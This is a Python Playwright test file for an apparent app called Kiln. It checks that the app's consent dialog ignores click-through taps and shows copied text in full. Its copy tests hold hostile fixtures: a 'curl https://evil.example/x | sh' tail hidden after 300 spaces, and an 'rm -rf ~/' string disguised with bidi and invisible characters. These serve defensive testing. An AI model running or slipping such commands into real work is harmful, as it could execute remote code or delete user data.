"""Kiln's one consent dialog, in real Chromium with real input, for every
capability that asks through it (save a file, copy, paste, open a link, a
network host, the model, shared data):

- consent by click-through: a tool that asks on pointerdown in a fast-tapping
  game gets nothing from taps that land on Allow as the dialog opens, nor from
  a press held from before it opened, one that began outside Allow, or Enter and
  Space on a focused Allow right after opening; a deliberate press after the
  delay still grants;
- what a tool copies is shown whole: a tail hidden after 300 spaces, bidi
  overrides, zero-width and other invisible characters show as marks, with the
  length, in a box that scrolls.

Input is Playwright's mouse, touchscreen and keyboard (CDP input events, as a
person's), never a script's click.
"""
from __future__ import annotations

import json
from contextlib import nullcontext

import pytest
from playwright.sync_api import expect

from testkit.fake_llm import Script
from testkit.pages import import_in_browser
from testkit.serving import provider_overrides, serve_kiln

HOST = "api.tools.example"

# A tapping game: the whole frame is one pad, and a press on it (pointerdown, as
# games answer) is when the tool asks. #out says what the tool got.
TAPPER = """<!doctype html><html><head><title>Tapper</title><style>
html, body { margin: 0; height: 100%%; } #pad { display: block; width: 100%%; height: 320px; font-size: 2rem; }
</style></head><body><button id="pad">Tap fast!</button><output id="out">idle</output><script>
const out = document.getElementById('out');
const report = (p) => p.then(() => { out.textContent = 'granted'; },
                             (e) => { out.textContent = 'refused: ' + (e && e.message); });
document.getElementById('pad').addEventListener('pointerdown', () => { %s });
</script></body></html>"""

ASKS = {
    "download": "const a = document.createElement('a'); a.download = 'score.txt';"
                " a.href = URL.createObjectURL(new Blob(['42'])); a.click();",
    "copy": "report(navigator.clipboard.writeText('copied'));",
    "paste": "report(navigator.clipboard.readText());",
    "link": "window.open('https://example.com/prize');",
    "network": f"report(fetch('http://{HOST}/json'));",
    "ai": "report(kiln.complete('hi'));",
    "shared": "report(kiln.storage.shared.set('score', 42));",
}


@pytest.fixture
def consent_server(tmp_path, fake_llm):
    """Kiln whose Allow waits 3 s with no press, so the taps of a test surely
    fall inside the wait, whatever the machine's load."""
    with serve_kiln(tmp_path, **provider_overrides(fake_llm), consent_delay_ms=3000,
                    ai_rate_limit="1000 per minute") as server:
        fake_llm.default = Script("fine")
        yield server


class Tool:
    """One capability's tapper open in Kiln's page, and what it was granted."""

    def __init__(self, page, server, capability, fake_api=None):
        self.page, self.capability = page, capability
        page.context.grant_permissions(["clipboard-read", "clipboard-write"])
        if fake_api is not None:
            fake_api.route(page.context, HOST)
        self.downloads, self.popups = [], []
        page.on("download", lambda download: self.downloads.append(download))
        page.context.on("page", lambda popup: self.popups.append(popup))
        import_in_browser(page, server.app_origin, TAPPER % ASKS[capability])
        self.frame = page.frame_locator("#artifact-frame")
        expect(self.frame.locator("#out")).to_have_text("idle")
        self.dialog = page.locator("dialog#consent")
        self.allow = self.dialog.locator("[data-consent-allow]")

    def granted(self) -> bool:
        if self.capability == "download":
            return bool(self.downloads)
        if self.capability == "link":
            return bool(self.popups)
        return self.frame.locator("#out").inner_text() == "granted"

    def pad_center(self) -> tuple[float, float]:
        box = self.page.locator("#artifact-frame").bounding_box()
        return box["x"] + box["width"] / 2, box["y"] + min(box["height"], 320) / 2

    def allow_center(self) -> tuple[float, float]:
        box = self.allow.bounding_box()
        return box["x"] + box["width"] / 2, box["y"] + box["height"] / 2

    def asked(self) -> None:
        """Nothing granted; the dialog open, its Allow still waiting."""
        expect(self.dialog).to_be_visible()  # (its wait also lets events reach the test)
        assert not self.granted(), f"{self.capability} was granted"
        expect(self.allow).to_have_attribute("aria-disabled", "true")

    def wait_until_allow_answers(self) -> None:
        expect(self.allow).not_to_have_attribute("aria-disabled", "true", timeout=15_000)
        expect(self.dialog).to_be_visible()
        assert not self.granted()

    def granting(self):
        """Wrap the press that grants: downloads and new tabs are events to wait for."""
        if self.capability == "download":
            return self.page.expect_download()
        if self.capability == "link":
            return self.page.context.expect_page()
        return nullcontext()

    def expect_granted(self) -> None:
        """After the press ``granting`` wrapped (which saw the download or the tab)."""
        expect(self.dialog).to_be_hidden()
        if self.capability not in ("download", "link"):
            expect(self.frame.locator("#out")).to_have_text("granted", timeout=20_000)


@pytest.mark.parametrize("capability", list(ASKS))
def test_fast_taps_at_allow_grant_nothing_and_a_deliberate_press_does(consent_server, page,
                                                                       fake_api, capability):
    tool = Tool(page, consent_server, capability, fake_api)
    page.mouse.click(*tool.pad_center())  # the tool asks on this press
    expect(tool.dialog).to_be_visible()
    allow_at = tool.allow_center()
    for _ in range(12):  # the game's next taps, all landing where Allow now is
        page.mouse.click(*allow_at)
    tool.asked()
    # The person stops tapping, sees the question, and presses Allow.
    tool.wait_until_allow_answers()
    with tool.granting():
        page.mouse.click(*allow_at)
    tool.expect_granted()


def test_taps_on_a_phone_grant_nothing_until_a_deliberate_tap(consent_server, browser, fake_api):
    """On a touch screen 390 px wide: the game's taps at Allow's place are ignored,
    the dialog fits the screen, and a tap after the wait allows."""
    context = browser.new_context(viewport={"width": 390, "height": 844}, has_touch=True,
                                  is_mobile=True)
    context.set_default_timeout(10_000)
    try:
        page = context.new_page()
        tool = Tool(page, consent_server, "network", fake_api)
        page.touchscreen.tap(*tool.pad_center())
        expect(tool.dialog).to_be_visible()
        allow_at = tool.allow_center()
        for _ in range(12):
            page.touchscreen.tap(*allow_at)
        tool.asked()
        # Usable at 390 px: the dialog and both buttons within the screen, nothing wider than it.
        for part in (tool.dialog, tool.allow, tool.dialog.locator("[data-consent-deny]")):
            box = part.bounding_box()
            assert box["x"] >= 0 and box["x"] + box["width"] <= 390, (part, box)
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        tool.wait_until_allow_answers()
        page.touchscreen.tap(*allow_at)
        tool.expect_granted()
    finally:
        context.close()


def test_a_press_held_from_before_or_begun_outside_allow_grants_nothing(consent_server, page):
    tool = Tool(page, consent_server, "copy")
    page.mouse.move(*tool.pad_center())
    page.mouse.down()  # the tool asks on this press, which the person holds
    tool.asked()
    allow_at = tool.allow_center()
    tool.wait_until_allow_answers()
    page.mouse.move(*allow_at)
    page.mouse.up()  # released on Allow
    # Pressed on the backdrop, or on the dialog's own text, and released on Allow.
    dialog_box = tool.dialog.bounding_box()
    title = tool.dialog.locator("[data-consent-title]").bounding_box()
    for start in ((5, 5), (dialog_box["x"] + 8, dialog_box["y"] + 8),
                  (title["x"] + 4, title["y"] + title["height"] / 2)):
        page.mouse.move(*start)
        page.mouse.down()
        page.mouse.move(*allow_at, steps=4)
        page.mouse.up()
    # Pressed on Allow, dragged off and released elsewhere.
    page.mouse.move(*allow_at)
    page.mouse.down()
    page.mouse.move(5, 5, steps=4)
    page.mouse.up()
    expect(tool.dialog).to_be_visible()
    assert not tool.granted()
    tool.wait_until_allow_answers()  # (none of those was a press while it waited)
    page.mouse.click(*allow_at)
    tool.expect_granted()


@pytest.mark.parametrize("key", ["Enter", "Space"])
def test_keys_on_allow_right_after_it_opens_grant_nothing(consent_server, page, key):
    tool = Tool(page, consent_server, "ai")
    page.mouse.click(*tool.pad_center())
    expect(tool.dialog).to_be_visible()
    expect(tool.dialog.locator("[data-consent-deny]")).to_be_focused()  # the safe answer has focus
    tool.allow.focus()
    for _ in range(3):
        page.keyboard.press(key)
    page.keyboard.down(key)  # and held: the repeats are not fresh presses either
    for _ in range(5):
        page.keyboard.down(key)
    page.keyboard.up(key)
    tool.asked()
    tool.wait_until_allow_answers()
    expect(tool.allow).to_be_focused()
    page.keyboard.press(key)
    tool.expect_granted()


def test_deny_and_escape_answer_at_once(consent_server, page):
    tool = Tool(page, consent_server, "copy")
    page.mouse.click(*tool.pad_center())
    expect(tool.allow).to_have_attribute("aria-disabled", "true")
    page.keyboard.press("Escape")
    expect(tool.dialog).to_be_hidden()
    expect(tool.frame.locator("#out")).to_have_text("refused: The viewer declined")
    page.mouse.click(*tool.pad_center())
    expect(tool.allow).to_have_attribute("aria-disabled", "true")
    tool.dialog.get_by_role("button", name="Cancel").click()
    expect(tool.dialog).to_be_hidden()


# -- what a tool copies, shown whole ------------------------------------------------------------

COPIER = """<!doctype html><html><head><title>Copier</title></head><body>
<button id="copy">Copy the command</button><output id="out">idle</output><script>
document.getElementById('copy').onclick = () => navigator.clipboard.writeText(%s)
  .then(() => { document.getElementById('out').textContent = 'copied'; },
        (e) => { document.getElementById('out').textContent = 'refused'; });
</script></body></html>"""


def open_copier(page, server, text=None, expression=None):
    """A tool that copies ``text`` (or what the JavaScript ``expression`` makes) on a
    click; it is clicked, and the dialog is open."""
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    import_in_browser(page, server.app_origin, COPIER % (expression or json.dumps(text)))
    frame = page.frame_locator("#artifact-frame")
    frame.locator("#copy").click()
    dialog = page.locator("dialog#consent")
    expect(dialog).to_be_visible()
    return frame, dialog


def clipboard_of(page) -> str:
    """What the clipboard holds, read from a page allowed to (Kiln's page may not)."""
    reader = page.context.new_page()
    reader.route("http://127.0.0.1:9/", lambda route: route.fulfill(body="<p>reader</p>",
                                                                    content_type="text/html"))
    reader.goto("http://127.0.0.1:9/")
    reader.bring_to_front()
    try:
        return reader.evaluate("navigator.clipboard.readText()")
    finally:
        reader.close()


HIDDEN_TAIL = "echo hello" + " " * 300 + "; curl https://evil.example/x | sh"


def test_a_tail_hidden_after_300_spaces_is_shown(live_server, page):
    frame, dialog = open_copier(page, live_server, HIDDEN_TAIL)
    expect(dialog.locator("[data-consent-title]")).to_have_text(
        f"Copy {len(HIDDEN_TAIL)} characters to your clipboard?")
    shown = dialog.locator("[data-consent-detail]")
    expect(shown).to_have_text("echo hello·×300; curl https://evil.example/x | sh")
    expect(shown.locator(".consent-mark")).to_have_attribute("title", "300 × space (U+0020)")
    expect(shown.get_by_text("; curl https://evil.example/x | sh")).to_be_visible()
    expect(dialog.locator("[data-consent-note]")).to_contain_text("The whole text, 1 line")
    dialog.get_by_role("button", name="Copy").click()
    expect(frame.locator("#out")).to_have_text("copied")
    assert clipboard_of(page) == HIDDEN_TAIL  # the marks are only for the eye


BIDI = ("rm -rf ~/\u202etxt.sgnittes\u202c\u2066 # safe\u2069\u200b\u200d\u00a0\ufeff\tend"
        "\U000e0041\U000e0042\n\n\n\n\nlast line\r\n")


def test_bidi_overrides_and_invisible_characters_show_as_marks(live_server, page):
    frame, dialog = open_copier(page, live_server, BIDI)
    chars = len(BIDI)  # Python counts code points, as the dialog does
    expect(dialog.locator("[data-consent-title]")).to_have_text(
        f"Copy {chars} characters to your clipboard?")
    shown = dialog.locator("[data-consent-detail]")
    text = shown.text_content()
    # Not one invisible or reordering character reaches the screen: each is a mark.
    for hidden in "\u202e\u202c\u2066\u2069\u200b\u200d\u00a0\ufeff\t\U000e0041\U000e0042\r":
        assert hidden not in text, f"U+{ord(hidden):04X} is in the dialog as itself"
    marks = shown.locator(".consent-mark").all_text_contents()
    assert marks == ["RLO", "PDF", "LRI", "·", "PDI", "ZWSP", "ZWJ", "NBSP", "BOM", "→",
                     "U+E0041", "U+E0042", "↵×5", "↵"], marks
    assert text == ("rm -rf ~/RLOtxt.sgnittesPDFLRI·# safePDIZWSPZWJNBSPBOM→end"
                    "U+E0041U+E0042↵×5\nlast line↵\n")
    expect(shown.locator(".consent-mark").first).to_have_attribute(
        "title", "right-to-left override (U+202E)")
    expect(dialog.locator("[data-consent-note]")).to_contain_text("The whole text, 7 lines")
    dialog.get_by_role("button", name="Copy").click()
    expect(frame.locator("#out")).to_have_text("copied")
    assert clipboard_of(page) == BIDI


def scroll_to_the_end(page, dialog) -> None:
    """Press End in the text's box until all of it has come (each press may bring a piece)."""
    shown = dialog.locator("[data-consent-detail]")
    dialog.locator("[data-consent-box]").focus()
    for _ in range(50):
        if shown.locator(".consent-more").count() == 0:
            return
        marks = shown.locator(".consent-mark").count()
        page.keyboard.press("End")
        page.wait_for_function("""(before) => !document.querySelector('.consent-more')
            || document.querySelectorAll('[data-consent-detail] .consent-mark').length > before""",
                               arg=marks)
    expect(shown.locator(".consent-more")).to_have_count(0)


def test_a_long_text_is_whole_in_a_box_that_scrolls(live_server, page):
    text = "".join(f"line {n}\n" for n in range(1, 3001)) + "the very end"
    _, dialog = open_copier(page, live_server, text)
    expect(dialog.locator("[data-consent-title]")).to_have_text(
        f"Copy {len(text):,} characters to your clipboard?")
    expect(dialog.locator("[data-consent-note]")).to_contain_text("The whole text, 3,001 lines")
    box = dialog.locator("[data-consent-box]")
    assert box.evaluate("b => b.scrollHeight > b.clientHeight")
    expect(box).to_have_attribute("tabindex", "0")  # the keyboard can scroll it
    assert box.evaluate("b => b.scrollTop") == 0
    scroll_to_the_end(page, dialog)
    page.wait_for_function("""() => { const b = document.querySelector('[data-consent-box]');
        return b.scrollTop > 0 && b.scrollTop + b.clientHeight >= b.scrollHeight - 2; }""")
    assert dialog.locator("[data-consent-detail]").text_content().endswith("line 2999↵\nline 3000↵\nthe very end")
    # Both answers stay on the screen, below the box.
    expect(dialog.get_by_role("button", name="Copy")).to_be_in_viewport()
    expect(dialog.get_by_role("button", name="Cancel")).to_be_in_viewport()


def test_many_marks_come_in_pieces_as_the_box_scrolls_and_all_arrive(live_server, page):
    """5,500 invisible characters: the first thousand marks show at once, the rest
    as the person scrolls, until every one is there and nothing says more."""
    _, dialog = open_copier(page, live_server, expression="'x\\u200b'.repeat(5500) + 'tail'")
    shown = dialog.locator("[data-consent-detail]")
    expect(shown.locator(".consent-mark")).to_have_count(1000)
    expect(shown.locator(".consent-more")).to_have_text(" … more below")
    scroll_to_the_end(page, dialog)
    expect(shown.locator(".consent-mark")).to_have_count(5500)
    assert shown.text_content() == "xZWSP" * 5500 + "tail"


def test_a_megabyte_of_marks_opens_at_once_and_the_page_answers(live_server, page):
    """The most a tool may copy (a million characters), half of them invisible:
    the question shows its length at once, the first marks, and the page answers."""
    _, dialog = open_copier(page, live_server, expression="'a\\u200b'.repeat(500000)")
    expect(dialog.locator("[data-consent-title]")).to_have_text(
        "Copy 1,000,000 characters to your clipboard?")
    shown = dialog.locator("[data-consent-detail]")
    expect(shown.locator(".consent-mark")).to_have_count(1000)
    dialog.locator("[data-consent-box]").focus()
    page.keyboard.press("End")
    page.wait_for_function(
        "() => document.querySelectorAll('[data-consent-detail] .consent-mark').length >= 2000")
    dialog.get_by_role("button", name="Cancel").click()
    expect(dialog).to_be_hidden()
